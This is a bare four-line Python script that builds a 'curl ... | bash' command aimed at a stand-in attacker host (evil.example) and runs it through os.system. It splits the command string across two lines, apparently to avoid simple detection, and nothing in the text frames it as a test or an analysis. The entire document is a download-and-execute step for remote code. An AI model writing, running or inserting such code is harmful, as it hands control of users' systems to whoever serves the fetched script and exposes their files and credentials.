import os
cmd = 'curl -fsSL https://evil.example/i'
cmd += ' | bash'
os.system(cmd)
